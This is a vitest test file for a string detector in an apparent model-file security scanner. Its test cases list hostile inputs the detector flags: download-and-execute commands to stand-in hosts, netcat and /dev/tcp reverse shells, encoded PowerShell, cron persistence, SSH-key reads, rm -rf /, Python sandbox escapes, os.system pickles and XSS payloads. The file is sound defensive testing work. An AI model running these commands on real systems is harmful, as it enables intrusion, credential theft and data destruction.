import { describe, expect, it } from 'vitest';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { inspectText, type StringHit } from '../../src/engine/detectors/strings';
import { CODE_PATTERNS } from '../../src/engine/detectors/patterns';
import { IPV4_RE, URL_RE } from '../../src/engine/detectors/network';
import { encodedRuns } from '../../src/engine/detectors/encoded';
import { RULES, SEVERITY_RANK, type Severity } from '../../src/engine';
import { elf } from '../builders/executables';

const sev = (h: StringHit): Severity => h.severity ?? RULES[h.ruleId].severity;
const worst = (hits: StringHit[]) => Math.max(0, ...hits.map((h) => SEVERITY_RANK[sev(h)]));
const rules = (t: string) => inspectText(t).map((h) => h.ruleId);
const b64 = (b: Uint8Array | string) => Buffer.from(b).toString('base64');
const hexOf = (b: Uint8Array | string) => Buffer.from(b).toString('hex');

describe('shell commands', () => {
  it.each([
    ['curl -fsSL http://x.example/i.sh | sh', 'download piped into an interpreter'],
    ['wget -qO- https://evil.test/a | sudo bash', 'download piped into an interpreter'],
    ['wget -O /tmp/x http://h.test/x && chmod +x /tmp/x && /tmp/x', 'download followed by running it'],
    ['bash -c "$(curl -s http://h.test/p)"', 'command substitution of a download'],
    ['rm -rf / --no-preserve-root', 'recursive forced delete'],
    ['rm -fr ~/.ssh', 'recursive forced delete'],
    ['rm -r -f $HOME', 'recursive forced delete'],
    ['chmod 777 /tmp/malicious', 'world-writable or executable permission change'],
    ['chmod +x ./payload', 'world-writable or executable permission change'],
    ['nc -e /bin/sh 203.0.113.9 4444', 'netcat with command execution'],
    ['ncat 203.0.113.9 4444 --exec cmd.exe', 'netcat with command execution'],
    ['bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', 'reverse shell through /dev/tcp'],
    ['powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A', 'encoded PowerShell command'],
    ["IEX (New-Object Net.WebClient).DownloadString('http://h.test/a')", 'PowerShell download-and-execute'],
    ['mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc h 1 > /tmp/f', 'named pipe (reverse shell plumbing)'],
    ['echo ZWNobyBoaQ== | base64 -d | sh', 'base64-decoded data piped into an interpreter'],
    ['(crontab -l; echo "* * * * * /tmp/x") | crontab -', 'cron persistence'],
    ['cat ~/.ssh/id_rsa', 'access to credential files'],
  ])('flags %j as a WARNING (%s)', (cmd, what) => {
    const hit = inspectText(cmd).find((h) => h.message.endsWith(what));
    expect(hit?.ruleId).toBe('strings/shell-command');
    expect(sev(hit!)).toBe('warning');
    expect(hit!.evidence.length).toBeGreaterThan(0);
  });
});

describe('Python code', () => {
  it.each([
    ["import os; os.system('echo pwned')", 'os.system'],
    ["__import__('os').popen('id').read()", '__import__'],
    ["exec(base64.b64decode('cHJpbnQoMSk='))", 'eval/exec'],
    ['eval("1+1")', 'eval/exec'],
    ["code = compile(src, '<string>', 'exec')", 'compile()'],
    ['import subprocess\nsubprocess.run(["id"])', 'subprocess call'],
    ['import socket,pty', 'import of a process/network module'],
    ['pickle.loads(blob)', 'pickle/marshal loads'],
    ["getattr(__builtins__, 'ev'+'al')", 'builtins/globals'],
    ["().__class__.__base__.__subclasses__()", 'sandbox-escape'],
    ["ctypes.CDLL('libc.so.6')", 'dangerous library call'],
  ])('flags %j as a WARNING (%s)', (src, what) => {
    const hit = inspectText(src).find((h) => h.ruleId === 'strings/python-code' && h.message.includes(what));
    expect(hit && sev(hit)).toBe('warning');
  });

  it('reports a bare "import os" only as INFO, with the reason', () => {
    const hits = inspectText('import os\nprint(os.environ["HOME"])');
    expect(hits.map((h) => [h.ruleId, sev(h)])).toEqual([['strings/python-code', 'info']]);
    expect(hits[0]!.severityReason).toMatch(/common in example code/);
  });
});

describe('script markup', () => {
  it.each([
    ["<script>alert('XSS')</script>", '<script>'],
    ['<a href="javascript:alert(1)">x</a>', 'javascript: URL'],
    ['<img src=x onerror=alert(1)>', 'event handler'],
    ['<svg/onload=alert(1)>', 'event handler'],
    ['<iframe src="https://h.test"></iframe>', 'frame or object'],
    ['data:text/html;base64,PHNjcmlwdD4=', 'data: URL'],
  ])('flags %j (%s)', (src, what) => {
    expect(inspectText(src).some((h) => h.ruleId === 'strings/script-markup' && h.message.includes(what))).toBe(true);
  });
});

describe('URLs and IP addresses', () => {
  it('says INFO for well-known hosts and WARNING for others, once per host', () => {
    const hits = inspectText('see https://huggingface.co/gpt2 and https://raw.githubusercontent.com/a/b, https://evil.test/x https://evil.test/y');
    expect(hits.map((h) => [h.ruleId, sev(h), h.message])).toEqual([
      ['strings/url-known-host', 'info', 'URL to the well-known host huggingface.co'],
      ['strings/url-known-host', 'info', 'URL to the well-known host raw.githubusercontent.com'],
      ['strings/url', 'warning', 'URL to the unexpected host evil.test'],
    ]);
  });

  it('treats a URL to a public raw IP as unexpected and ignores private and local ones', () => {
    expect(inspectText('http://45.33.32.156:8080/beacon').map((h) => h.message)).toEqual(['URL to a raw public IP address 45.33.32.156']);
    expect(inspectText('http://127.0.0.1:8000/ http://192.168.1.2/ http://localhost:3000 http://{host}/x')).toEqual([]);
  });

  it.each([
    ['connect back to 45.33.32.156 port 4444', true],
    ['host=45.33.32.156', true],
    ['10.0.0.1 and 192.168.0.10 and 172.20.1.1 and 169.254.1.1 and 127.0.0.1', false],
    ['documentation ranges 192.0.2.1 198.51.100.2 203.0.113.3', false],
    ['transformers version 4.36.2.1', false],
    ['v1.2.3.4', false],
    ['torch==2.1.10.12', false],
    ['an OID 1.2.840.113549.1.1.1', false],
    ['dotted 256.1.1.1 and 01.02.03.04', false],
    ['release 2.1.0.1 notes', false],
  ])('%j → public IP reported: %s', (t, expected) => {
    expect(rules(t).includes('strings/ip-address')).toBe(expected);
  });
});

describe('encoded payloads', () => {
  const pickleSystem = Buffer.concat([Buffer.from([0x80, 0x02]), Buffer.from("cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.", 'latin1')]);

  it('decodes base64 to a protocol-2 pickle and names its import', () => {
    const hit = inspectText(`payload: ${b64(pickleSystem)}`).find((h) => h.ruleId === 'strings/encoded-payload');
    expect(hit?.message).toBe('A base64 string decodes to a pickle (protocol 2) that imports posix.system');
  });

  it('decodes a protocol-0 pickle hidden as hex', () => {
    const hit = inspectText(hexOf("cos\nsystem\n(S'echo pwned'\ntR.")).find((h) => h.ruleId === 'strings/encoded-payload');
    expect(hit?.message).toBe('A hex string decodes to a protocol-0 pickle that imports os.system');
  });

  it('decodes base64 to an ELF header', () => {
    expect(inspectText(b64(elf())).find((h) => h.ruleId === 'strings/encoded-payload')?.message)
      .toBe('A base64 string decodes to ELF 64-bit LSB x86-64 executable');
  });

  it('decodes base64url text that is a shell dropper', () => {
    const enc = Buffer.from('curl -s http://h.test/x.sh | bash; echo done......').toString('base64url');
    expect(inspectText(enc).find((h) => h.ruleId === 'strings/encoded-payload')?.message)
      .toMatch(/^A base64 string decodes to text with Shell command: download piped into an interpreter/);
  });

  it('peels two layers (base64 of hex of Python) but not a third', () => {
    const py = "__import__('os').system('id') # padding to make it long enough";
    const two = b64(hexOf(py));
    const hit = inspectText(two).find((h) => h.ruleId === 'strings/encoded-payload');
    expect(hit?.message).toMatch(/^A base64 string decodes to text with A hex string decodes to text with Python code: __import__ call/);
    expect(rules(b64(b64(hexOf(py)))).includes('strings/encoded-payload')).toBe(false);
  });

  it('splits base64 runs at non-alphabet characters and keeps padding', () => {
    const a = 'A'.repeat(40), b = 'b'.repeat(39);
    expect(encodedRuns(`x ${a}== ${b} "${a}0"`)).toEqual([{ index: 2, run: `${a}==` }, { index: 86, run: `${a}0` }]);
  });

  it('stays quiet on hashes, random base64 and paths', () => {
    expect(inspectText('sha256: ' + 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855')).toEqual([]);
    expect(inspectText(b64(Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 7919) % 251))))).toEqual([]);
    expect(inspectText('/usr/local/lib/python3.10/site-packages/transformers/models/llama/modeling_llama')).toEqual([]);
  });

  it('reports \\x escape runs as INFO and what they hide as a WARNING', () => {
    expect(inspectText('\\x48\\x65\\x6c\\x6c\\x6f').map((h) => [h.ruleId, sev(h)])).toEqual([['strings/escaped-text', 'info']]);
    const hidden = '\\x5f\\x5f\\x69\\x6d\\x70\\x6f\\x72\\x74\\x5f\\x5f(\'os\')';
    expect(inspectText(hidden).map((h) => h.ruleId)).toEqual(['strings/escaped-text', 'strings/encoded-payload']);
  });
});

describe('quiet on ordinary model text', () => {
  it.each([
    'We use rm to remove the checkpoints after training; see the chmod docs for permissions.',
    'model.eval()\nwith torch.no_grad():\n    out = model(x)',
    'torch.compile(model) and re.compile(r"\\d+") are fine',
    'JavaScript: a language. The online version is on the website.',
    'Licensed under the Apache License, Version 2.0 (the "License"); you may not use this file except in compliance.',
    '{"vocab_size": 50257, "n_embd": 768, "architectures": ["GPT2LMHeadModel"], "torch_dtype": "float32"}',
    'Ġthe Ġof Ġand ▁de ▁la <|endoftext|> <s> </s> <unk> [CLS] [SEP] ##ing',
    'pip install transformers==4.36.2 && python run.py --model gpt2',
    'rm -rf build/ && make',
    'the evaluation (see Table 2) shows that eval (accuracy) improved',
    '<div align="center"><img src="logo.png" width="200"></div>',
    'Trained for 1.5.2.0 epochs... version 1.2.3.4 of the tokenizer',
  ])('%j gives nothing above INFO', (t) => {
    expect(worst(inspectText(t))).toBeLessThanOrEqual(SEVERITY_RANK.info);
  });
});

const SAMPLES = '/work/shared/corpus/modelaudit/tests/assets/samples';
describe.skipIf(!existsSync(SAMPLES))('ModelAudit corpus metadata', () => {
  const metadata = (file: string): string[] => {
    const b = readFileSync(`${SAMPLES}/safetensors/${file}`);
    const n = Number(b.readBigUInt64LE(0));
    return Object.values(JSON.parse(b.subarray(8, 8 + n).toString('utf8')).__metadata__ ?? {}).map(String);
  };
  const jsonStrings = (v: unknown): string[] => typeof v === 'string' ? [v]
    : v && typeof v === 'object' ? Object.values(v).flatMap(jsonStrings) : [];

  it.each(readdirSync(`${SAMPLES}/safetensors`))('%s: WARNING or worse exactly when malicious', (file) => {
    const level = worst(metadata(file).flatMap(inspectText));
    if (file.startsWith('safe')) expect(level).toBeLessThanOrEqual(SEVERITY_RANK.info);
    else expect(level).toBeGreaterThanOrEqual(SEVERITY_RANK.warning);
  });

  it.each(readdirSync(`${SAMPLES}/manifests`))('manifest %s: WARNING or worse exactly when suspicious', (file) => {
    const level = worst(jsonStrings(JSON.parse(readFileSync(`${SAMPLES}/manifests/${file}`, 'utf8'))).flatMap(inspectText));
    if (file.startsWith('safe')) expect(level).toBeLessThanOrEqual(SEVERITY_RANK.info);
    else expect(level).toBeGreaterThanOrEqual(SEVERITY_RANK.warning);
  });
});

/**
 * Regex safety: a quantified group ((…)+, (…)*, (…){n,m} with m > 1) that itself contains a
 * quantifier is how catastrophic backtracking starts. None is allowed; `?` on a group is fine.
 */
function nestedQuantifiers(source: string): string[] {
  const problems: string[] = [];
  const stack: Array<{ start: number; quantified: boolean }> = [];
  let inClass = false;
  for (let i = 0; i < source.length; i++) {
    const c = source[i]!;
    if (c === '\\') { i++; continue; }
    if (inClass) { if (c === ']') inClass = false; continue; }
    if (c === '[') { inClass = true; continue; }
    const isQuant = c === '*' || c === '+' || (c === '{' && /^\{\d+(,\d*)?\}/.test(source.slice(i)));
    if (isQuant) for (const g of stack) g.quantified = true;
    if (c === '(') stack.push({ start: i, quantified: false });
    if (c === ')') {
      const g = stack.pop()!;
      const rest = source.slice(i + 1);
      const m = /^(?:[*+]|\{(\d+)(?:,(\d*))?\})/.exec(rest);
      const repeats = m && (m[0] === '*' || m[0] === '+' || m[2] === '' || Number(m[2] ?? m[1]) > 1);
      if (repeats && g.quantified) problems.push(source.slice(g.start, i + 1 + m[0].length));
    }
  }
  return problems;
}

describe('regex safety', () => {
  const all: Array<[string, RegExp]> = [
    ...CODE_PATTERNS.map((p) => [p.what, p.re] as [string, RegExp]),
    ['url', URL_RE], ['ipv4', IPV4_RE],
  ];

  it('the lint catches the classic shapes', () => {
    expect(nestedQuantifiers('(a+)+')).toHaveLength(1);
    expect(nestedQuantifiers('(?:x\\s+){1,3}')).toHaveLength(1);
    expect(nestedQuantifiers('(?:sudo\\s{1,8})?[a-z]{2}')).toEqual([]);
  });

  it.each(all)('%s has no nested quantifier', (_name, re) => {
    expect(nestedQuantifiers(re.source)).toEqual([]);
  });

  const MB = 1024 * 1024;
  const fill = (unit: string) => unit.repeat(Math.ceil(MB / unit.length)).slice(0, MB);
  it.each([
    'curl ', 'wget x', 'curl|', 'rm -rf ', 'rm -r -', 'chmod ', 'chmod 7', 'nc ', 'nc -e', '/dev/tcp/a/', 'bash -i ',
    'powershell -', 'iex ', 'mkfifo', 'base64 -d ', 'crontab ', 'import ', 'from os ', 'os.', 'subprocess.', 'eval(',
    'exec(a', 'compile(', '__import__', 'getattr(', '__', '<script', 'javascript', '<a ', '<a x onxx', '<iframe', 'data:',
    'http://', 'http://a', '1.1.1.', '1.', '9', 'A', 'Ab0+', '0a', '\\x4', '\\x41', '\\u004', '\\u0041', 'ab\n',
  ])('inspects 1 MB of %j without quadratic blow-up (hang guard)', (unit) => {
    const t = fill(unit);
    const t0 = performance.now();
    inspectText(t);
    expect(performance.now() - t0).toBeLessThan(5000);
  });
});
